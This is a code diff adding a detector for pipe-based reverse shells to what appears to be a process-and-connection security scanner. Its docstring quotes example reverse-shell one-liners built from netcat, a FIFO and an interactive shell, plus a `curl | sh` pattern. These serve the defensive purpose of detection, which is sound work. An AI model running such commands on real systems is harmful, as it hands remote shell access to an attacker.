@@ -108,6 +108,67 @@ def socket_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
     return found
 
 
+def pipe_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
+    """A process fed from the network and talking back to it through pipes: `cat fifo | sh
+    -i | nc host 443 > fifo`, `nc a | sh | nc b`. Its stdout (or stderr) is a pipe read by a
+    process that holds a remote TCP connection, and its stdin a pipe written by one that holds
+    one, or by one that has open a FIFO such a process writes to. Both directions: `curl | sh` (the
+    output on a terminal) and `make | nc` (the input from no network) are not this."""
+    procs = list(procs)
+    remote = {
+        c.inode
+        for c in conns
+        if c.inode and c.proto == "tcp" and c.state == "ESTABLISHED" and not _loopback(c)
+    }
+    netted = {
+        p.pid
+        for p in procs
+        if any((m := _SOCKET.fullmatch(f)) and int(m.group(1)) in remote for f in p.files)
+    }
+    # Who reads (fd 0) and who writes (fd 1) each pipe or FIFO.
+    readers: dict[str, list[Proc]] = {}
+    writers: dict[str, list[Proc]] = {}
+    for p in procs:
+        if (t := p.stdio.get(0)) is not None:
+            readers.setdefault(t, []).append(p)
+        if (t := p.stdio.get(1)) is not None:
+            writers.setdefault(t, []).append(p)
+
+    def to_net(target: str) -> Proc | None:
+        return next((r for r in readers.get(target, ()) if r.pid in netted), None)
+
+    def from_net(target: str) -> Proc | None:
+        for w in writers.get(target, ()):
+            if w.pid in netted:
+                return w
+            # `cat fifo`: it has open (as any fd) a path a network process writes as stdout.
+            for path in w.files:
+                if path.startswith("/") and any(x.pid in netted for x in writers.get(path, ())):
+                    return w
+        return None
+
+    found = []
+    for p in procs:
+        if p.pid in netted:
+            continue
+        stdin = p.stdio.get(0, "")
+        outs = [t for fd, t in sorted(p.stdio.items()) if fd in (1, 2) and t.startswith("pipe:")]
+        sink = next((n for t in outs if (n := to_net(t)) is not None), None)
+        if not stdin.startswith("pipe:") or sink is None or from_net(stdin) is None:
+            continue
+        found.append(
+            Threat(
+                CRITICAL,
+                "reverse_shell",
+                "Reverse shell detected",
+                f"Process '{p.cmdline[:200]}' (PID {p.nspid}) reads from and writes to the "
+                f"network through pipes ('{sink.cmdline[:80]}' holds the connection)",
+                {**_proc_evidence(p), "network_peer": {"pid": sink.nspid, "command": sink.cmdline}},
+            )
+        )
+    return found
+
+
 _SOCKET = re.compile(r"socket:\[(\d+)\]")
 _STDIO = {0: "standard input", 1: "standard output", 2: "standard error"}
 
